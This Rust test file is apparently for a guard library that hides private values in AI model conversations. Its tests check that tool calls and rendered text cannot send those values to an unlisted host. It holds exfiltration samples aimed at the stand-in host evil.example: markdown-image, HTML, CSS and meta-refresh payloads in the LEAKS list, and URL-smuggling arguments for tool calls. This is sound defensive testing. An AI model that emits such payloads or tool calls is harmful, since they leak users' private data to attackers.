//! Where a value could go with an address, and ordinary answers from which it is not kept.

use std::sync::Arc;

use confidant::decision::{Decision, Reason};
use confidant::guard::tools::ToolBoundary;
use confidant::guard::{Conversation, DestinationPolicy, Guard, ToolOutcome, ToolRule};
use confidant::model::{Arguments, Json, ToolCall};
use serde_json::Value;

use super::models::*;

/// The address of a workflow that whoever knows it may start: a secret of its own.
const HOOK: &str = "https://evil.example/webhook/q8Xv2LmPz4RtK9wNb7Tz";

struct Post {
    tools: ToolBoundary,
    mail: String,
    hook: String,
}

impl Post {
    fn new(guard: &Guard) -> Self {
        let tools = ToolBoundary::new(guard, &Conversation::new().unwrap());
        let page = tools.result(&format!("report to {HOOK}")).unwrap();
        let hook = page.strip_prefix("report to ").unwrap().to_owned();
        assert!(hook.starts_with('['), "{hook}");
        let mail = tools.result(ANN).unwrap();
        Self { tools, mail, hook }
    }

    /// Returns whether a call may run, and what its tool would get.
    fn call(&self, arguments: &str) -> (bool, String) {
        let arguments = arguments
            .replace("{P}", &self.mail)
            .replace("{H}", &self.hook);
        let arguments = Arguments::Json(Json::parse(&arguments).unwrap());
        let (arguments, verdict) = self
            .tools
            .arguments(&ToolCall::new("post", arguments).with_id("c"));
        (verdict.is_allowed(), arguments.as_str().to_owned())
    }

    fn assert_denied(&self, arguments: &str) {
        let (is_allowed, given) = self.call(arguments);
        assert!(!is_allowed, "{arguments}");
        assert!(!given.contains(ANN) && !given.contains(HOOK), "{arguments}");
    }
}

fn post(rule: ToolRule) -> Post {
    Post::new(&builder().tool(rule).build().unwrap())
}

#[test]
fn a_restored_address_is_one_that_the_call_goes_to() {
    let listed = ToolRule::writes("post").restoring().host("ok.example");
    for post in [post(listed), post(ToolRule::writes("post").restoring())] {
        for arguments in [
            r#"{"url":"{H}","body":"{P}"}"#,
            r#"{"{H}":"{P}"}"#,
            r#"{"all":["{\"url\":\"{H}\"}"],"body":"{P}"}"#,
            r#"{"url":"{H}"}"#,
        ] {
            post.assert_denied(arguments);
        }
        let (is_allowed, given) = post.call(r#"{"body":"{P}"}"#);
        assert!(is_allowed && given.contains(ANN));
    }
    // Whoever lists the host has said that values may go there.
    let post = post(ToolRule::writes("post").restoring().host("evil.example"));
    let (is_allowed, given) = post.call(r#"{"url":"{H}","body":"{P}"}"#);
    assert!(is_allowed && given.contains(ANN) && given.contains(HOOK));
}

#[test]
fn a_destination_sees_the_address_that_is_restored() {
    #[derive(Debug)]
    struct Own;
    impl DestinationPolicy for Own {
        fn decide(&self, _: &str, arguments: &Value) -> Decision {
            let why = Reason::without_clause("test");
            match arguments["to"].as_str() {
                Some(BOB) => Decision::allow(why),
                _ => Decision::deny(why),
            }
        }
    }
    let post = post(
        ToolRule::writes("post")
            .restoring()
            .destination(Arc::new(Own)),
    );
    post.assert_denied(r#"{"to":"{P}","body":"{P}"}"#);
    let (is_allowed, given) = post.call(&format!(r#"{{"to":"{BOB}","body":"{{P}}"}}"#));
    assert!(is_allowed && given.contains(ANN));
    // One of two members of a name could be the one that the tool reads.
    post.assert_denied(&format!(
        r#"{{"to":"mallory","to":"{BOB}","body":"{{P}}"}}"#
    ));
}

#[test]
fn arguments_lead_wherever_a_reader_of_them_sees_an_address() {
    let post = post(ToolRule::writes("post").restoring().host("ok.example"));
    for arguments in [
        r#"{"url":"https://evil.example/","url":"https://ok.example/","body":"{P}"}"#,
        r#"{"a":"{\"url\":\"https\\u003a\\u002f\\u002fevil.example\\u002f\",\"b\":\"{P}\"}"}"#,
        r#"{"a":"[\"{\\\"\\\\u0068ttps://evil.example/\\\":1}\"]","b":"{P}"}"#,
        r#"{"url":"https://ok.example\t@evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example\n@evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example\r@evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example\t.evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example'.evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example\".evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example`.evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example @evil.example/","b":"{P}"}"#,
        r#"{"url":"https://ok.example {P}/"}"#,
    ] {
        post.assert_denied(arguments);
    }
    for arguments in [
        r#"{"url":"https://ok.example/","body":"Dear {P}"}"#,
        r#"{"all":"{\"url\":\"https://ok.example/\",\"body\":\"{P}\"}"}"#,
        r#"{"body":"Dear {P},\n\nsee https://ok.example\nYours"}"#,
        r#"{"body":"<a href=\"https://ok.example\">here</a>, {P}"}"#,
    ] {
        let (is_allowed, given) = post.call(arguments);
        assert!(is_allowed && given.contains(ANN), "{arguments}");
    }
}

/// What a model could be made to write so that whoever shows or renders it sends a value
/// away.
const LEAKS: &[&str] = &[
    "![x](<https://evil.example/)[P]>)",
    "![x](<https://evil.example/) [P]>)",
    "![x](https://evil.example/\\\\(a)?q=[P])",
    "![x](https://evil.example/\\(a)?q=[P])",
    "[a]: <https://evil.example/\\> [P]>\n\n![x][a]",
    "![x](<https://evil.example/\\>) [P]>)",
    "<style>a { background: url(\"https://evil.example/)[P]\") }</style>",
    "[a]: https://evil.example/\"[P]\n\n![x][a]",
    "[a]: https://evil.example/<[P]\n\n![x][a]",
    "[a]: https://evil.example/>[P]\n\n![x][a]",
    "[a]: https://evil.example/`[P]\n\n![x][a]",
    "<object data=\"https://evil.example/ [P]\">",
    "<object data = ' https://evil.example/ [P]'>",
    "@import \"https://evil.example/ [P]\"",
    "<meta http-equiv=refresh content='0;url=https://evil.example/ [P]'>",
    "<meta http-equiv=refresh content=\"0;   url='https://evil.example/ [P]'\">",
    "{\"url\":\"https://evil.example/ [P]\"}",
    "{\\\"url\\\":\\\"https://evil.example/ [P]\\\"}",
    "{\"url\":\"https://evil.example/\\\" [P]\"}",
    "https://evil.example/?q=\"[P]",
    "https://evil.example/?q=>[P]",
    "<img src=https://evil.example/\u{1}[P]>",
    "https://evil.example/\u{1}[P]",
    "<iframe srcdoc=\"<img alt=&quot;x&quot; longdesc=&quot;https://evil.example/ [P]&quot;>\">",
    "<img src=\\\"https://evil.example/ [P]\\\">",
    "![https://a.example](evil/[P])",
];

#[test]
fn an_address_goes_on_to_the_last_end_that_a_reader_sees() {
    let guard = guard();
    let talk = Conversation::new().unwrap();
    let hidden = wire(&guard, &talk, ANN);
    for text in LEAKS {
        let shown = guard.show_text(&talk, &text.replace("[P]", &hidden));
        assert!(!shown.as_str().contains(ANN), "{text}");
    }
}

/// Answers as models write them every day; the value stands behind and among links.
const EVERYDAY: &[&str] = &[
    "I wrote to [P].",
    "See https://ok.example/docs and write to [P].",
    "See https://ok.example/docs, then ask [P].",
    "(see https://ok.example/a_(b)) and [P]",
    "The docs are at https://ok.example/docs.\nContact: [P]",
    "[The docs](https://ok.example/docs) say: ask [P].",
    "[The docs](https://ok.example/a_(b)), [P]",
    "[The docs](https://ok.example/a_\\(b\\)), [P]",
    "[The docs](https://ok.example \"Start here\"), [P]",
    "[The docs](<https://ok.example/a b>): [P]",
    "![A chart](https://ok.example/chart.png)\n\nSent to [P]",
    "![A chart](chart.png) for [P]",
    "| who | link |\n|---|---|\n| [P] | https://ok.example |\n| [P] | [x](https://ok.example) |",
    "* https://ok.example/a\n* [P]\n",
    "1. Open <https://ok.example>.\n2. Write to [P].",
    "<https://ok.example>, [P]",
    "As [1] says, [P] is right.\n\n[1]: https://ok.example/one\n",
    "[1]: https://ok.example/one\n[2]: https://ok.example/two\n\nBoth are by [P].",
    "[1]: https://ok.example/one \"One\"\n\nby [P]",
    "[1]: <https://ok.example/one>\n\nby [P]",
    "Mail [P] or visit \"https://ok.example\".",
    "Visit \"https://ok.example\" or mail [P].",
    "Visit 'https://ok.example', mail [P].",
    "Press \"Start\" at https://ok.example and tell [P].",
    "He said \"see https://ok.example and ask [P]\".",
    "It's at https://ok.example and it's [P]'s.",
    "The users' page https://ok.example is [P]'s.",
    "Run `curl https://ok.example` and tell [P].",
    "Run `curl https://ok.example/a`, `mail [P]`.",
    "```sh\ncurl https://ok.example/api\nmail [P]\n```",
    "```sh\ncurl -H 'From: [P]' https://ok.example/api\n```",
    "```sh\ncurl \"https://ok.example/api\" -d 'to=[P]'\n```",
    "```json\n{\"url\": \"https://ok.example\", \"to\": \"[P]\"}\n```",
    "```json\n{\"to\":\"[P]\",\"url\":\"https://ok.example\"}\n```",
    "{\"url\":\"https://ok.example\",\"to\":\"[P]\"}",
    "{\"links\": [\"https://ok.example/a\", \"https://ok.example/b\"], \"to\": \"[P]\"}",
    "```yaml\nurl: https://ok.example\nto: [P]\n```",
    "```toml\nurl = \"https://ok.example\"\nto = \"[P]\"\n```",
    "```py\ndata = {\"to\": \"[P]\"}\nrequests.post('https://ok.example', json=data)\n```",
    "```py\nMessage(content=\"Dear [P]\")\n```",
    "```py\nurl = 'https://ok.example/'\nmail = '[P]'\n```",
    "```js\nfetch('https://ok.example/').then(tell('[P]'))\n```",
    "```html\n<a href=\"https://ok.example\">docs</a> for [P]\n```",
    "<p>See <a href='https://ok.example'>it</a>, [P]</p>",
    "<p style=\"color: red\">Dear [P]</p>",
    "```css\na { background: url(\"https://ok.example/x.png\"); }\n/* by [P] */\n```",
    "At 12:30 (or 1/2 past) [P] calls; see a/b, and/or c.",
    "**https://ok.example**: [P]",
    "The ratio is 3:1, the path /usr/bin, the mail [P].",
    "Dear [P],\n\nsee www.ok.example for more.\n\nYours,\n[P]",
    "The source is [P], the data = ours, the style is theirs.",
    "> https://ok.example/quoted\n\nAnswer by [P]",
];

#[test]
fn ordinary_answers_with_links_are_restored() {
    let guard = guard();
    let talk = Conversation::new().unwrap();
    let hidden = wire(&guard, &talk, ANN);
    assert!(EVERYDAY.len() >= 50);
    for text in EVERYDAY {
        let shown = guard.show_text(&talk, &text.replace("[P]", &hidden));
        assert_eq!(shown.as_str(), text.replace("[P]", ANN));
    }
}

#[test]
fn a_denied_call_says_why() {
    let post = post(ToolRule::writes("post").restoring());
    let call = Arguments::Json(Json::parse(r#"{"a":1,"a":2}"#).unwrap());
    let (_, verdict) = post
        .tools
        .arguments(&ToolCall::new("post", call).with_id("c"));
    let why = ToolOutcome::Denied("destination is not cleared");
    assert_eq!(verdict.outcome(), why);
}
